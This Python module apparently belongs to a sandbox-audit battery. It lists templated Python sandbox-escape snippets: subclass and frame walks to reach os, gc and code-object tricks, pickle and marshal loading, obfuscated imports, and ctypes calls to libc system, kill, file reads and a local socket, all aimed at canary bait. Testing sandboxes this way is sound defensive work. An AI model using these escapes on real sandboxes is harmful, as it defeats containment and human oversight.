"""Python-level escape techniques: reach an os-like namespace, then try every effect.

Contract: ``PYTHON_ESCAPES`` is a tuple of ``Technique`` (category ``python-escape``, plus
``ctypes_raw_socket`` in ``network``): subclass walks, re-exported modules, frames, gc, code
objects, pickle/marshal, loaders, identifier and string obfuscation, ctypes.
Each snippet is a ``string.Template`` over the per-technique bait and may call the prelude
helpers of ``retool.sandbox.audit.render``. Data only; ``retool.sandbox.audit.techniques`` assembles the full table
in the battery's order.
"""

from __future__ import annotations

from retool.sandbox.audit.technique import ALL_AIMS as _ALL
from retool.sandbox.audit.technique import Technique
from retool.sandbox.audit.technique import technique as _t

PYTHON_ESCAPES: tuple[Technique, ...] = (
    # --- Python-level escapes: reach an os-like namespace, then try every effect -----------------
    _t("subclass_walk_wrap_close", "python-escape", _ALL, """
G = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__
_fx(G)
"""),
    _t("builtin_importer_posix", "python-escape", _ALL, """
BI = [c for c in _classes() if c.__name__ == 'BuiltinImporter'][0]
_fx(vars(BI.load_module('posix')))
"""),
    _t("reexport_random_os", "python-escape", _ALL, """
import random
_fx(vars(random._os))
"""),
    _t("reexport_collections_sys", "python-escape", _ALL, """
import collections
_fx(vars(collections._sys.modules.get('os') or collections._sys.modules['posix']))
"""),
    _t("reexport_scan_allowed_modules", "python-escape", _ALL, """
import math, random, datetime, collections, itertools, functools, operator, statistics, decimal, fractions
G = None
for m in (random, datetime, collections, functools, operator, statistics, decimal, fractions):
    G = G or _find(vars(m))
_fx(G)
"""),
    _t("function_globals_hook", "python-escape", _ALL, """
import random
_fx(vars(random.Random.seed.__globals__['_os']))
"""),
    _t("closure_and_globals_walk", "python-escape", _ALL, """
import functools, collections, random, statistics
todo = [getattr(m, n, None) for m in (functools, collections, random, statistics) for n in dir(m)]
seen, G = set(), None
while todo and G is None:
    o = todo.pop()
    if id(o) in seen:
        continue
    seen.add(id(o))
    for cell in (getattr(o, '__closure__', None) or ()):
        try:
            todo.append(cell.cell_contents)
        except ValueError:
            pass
    for attr in ('__func__', '__wrapped__', 'fget'):
        if getattr(o, attr, None) is not None:
            todo.append(getattr(o, attr))
    g = getattr(o, '__globals__', None)
    if isinstance(g, dict):
        G = _find(g)
_fx(G)
"""),
    _t("traceback_frame_walk", "python-escape", _ALL, """
try:
    1 / 0
except ZeroDivisionError as e:
    f = e.__traceback__.tb_frame
G = None
while f is not None and G is None:
    G = _find(f.f_globals) or _find(f.f_locals)
    f = f.f_back
_fx(G)
"""),
    _t("generator_frame_walk", "python-escape", _ALL, """
def gen():
    yield g.gi_frame.f_back
g = gen()
f = next(g)
G = None
while f is not None and G is None:
    G = _find(f.f_globals) or _find(f.f_builtins)
    f = f.f_back
_fx(G)
"""),
    _t("warnings_catch_module", "python-escape", _ALL, """
CW = [c for c in _classes() if c.__name__ == 'catch_warnings'][0]
S = CW()._module.sys
_fx(vars(S.modules.get('os') or S.modules['posix']))
"""),
    _t("format_string_traversal", "python-escape", "env_leak", """
import random
print('{0.__init__.__globals__[_os].environ}'.format(random.Random()))
print(('{0.__init__.__globals__[_os].environ[' + $env_name + ']}').format(random.Random()))
"""),
    _t("ctypes_libc", "python-escape", "canary_read signal env_leak", """
ctypes = _imp('ctypes')
libc = ctypes.CDLL(None)
libc.system($shell.encode())
libc.kill($decoy_pid, 10)
buf = ctypes.create_string_buffer(4096)
libc.read(libc.open($canary.encode(), 0), buf, 4096)
print(buf.value)
"""),
    _t("ctypes_raw_socket", "network", "network", """
libc = _imp('ctypes').CDLL(None)
fd = libc.socket(2, 1, 0)
addr = bytes([2, 0, $port >> 8, $port & 255, 127, 0, 0, 1]) + bytes(8)
print(fd, libc.connect(fd, addr, 16), libc.write(fd, $marker.encode(), len($marker)))
"""),
    _t("gc_get_objects", "python-escape", _ALL, """
gc = _imp('gc')
gc.unfreeze()
G = None
for o in gc.get_objects():
    if isinstance(o, dict) and callable(o.get('system')) and 'environ' in o:
        G = o
        break
_fx(G)
"""),
    _t("gc_get_referrers", "python-escape", _ALL, """
gc = _imp('gc')
gc.unfreeze()
B = [r for r in gc.get_referrers(len) if isinstance(r, dict) and '__build_class__' in r][0]
_fx(vars(B['__imp' 'ort__']('o' 's')))
"""),
    _t("code_object_forging", "python-escape", _ALL, """
f = lambda: _i_('o' 's')
code = f.__code__.replace(co_names=tuple('__imp' 'ort__' if n == '_i_' else n for n in f.__code__.co_names))
_fx(vars(type(f)(code, globals())()))
"""),
    _t("pickle_reduce", "python-escape", "canary_read network env_leak", """
pickle = _imp('pickle')
try:
    _unguard()  # pickle's own imports (posix, socket) must not meet an import guard
except BaseException as e:
    print(type(e).__name__)
for blob in ($pickle_system, $pickle_connect):
    try:
        print(pickle.loads(blob))
    except BaseException as e:
        print(type(e).__name__)
"""),
    _t("marshal_loads", "python-escape", _ALL, """
marshal = _imp('marshal')
type(lambda: 0)(marshal.loads(bytes.fromhex($marshal_hex)), {'__builtins__': __builtins__})()
"""),
    _t("loader_and_spec", "python-escape", _ALL, """
import random
G = None
try:
    L = random.__spec__.loader
    G = vars(type(L)('o' 's', random.__file__[:-9] + 'os.py').load_module())
except BaseException as e:
    print('spec', type(e).__name__)
    G = vars(_bi()['__loader__'].load_module('posix'))
_fx(G)
"""),
    _t("importlib_bootstrap_globals", "python-escape", _ALL, """
MS = [c for c in _classes() if c.__name__ == 'ModuleSpec'][0]
_fx(vars(MS.__init__.__globals__['_builtin_from_name']('posix')))
"""),
    _t("nfkc_fullwidth_identifiers", "python-escape", "canary_read env_leak", """
print(ｏｐｅｎ($canary).read())
print(vars(__ｉｍｐｏｒｔ__('o' 's'))['environ'])
"""),
    _t("string_obfuscation", "python-escape", _ALL, """
I = _bi()['__imp' + 'ort__']
_fx(vars(I(''.join(chr(c) for c in (111, 115)))))
"""),
    _t("fileio_from_subclasses", "python-escape", "canary_read", """
FIO = [c for c in _classes() if c.__name__ == 'FileIO'][0]
print(FIO($canary).read())
"""),
)
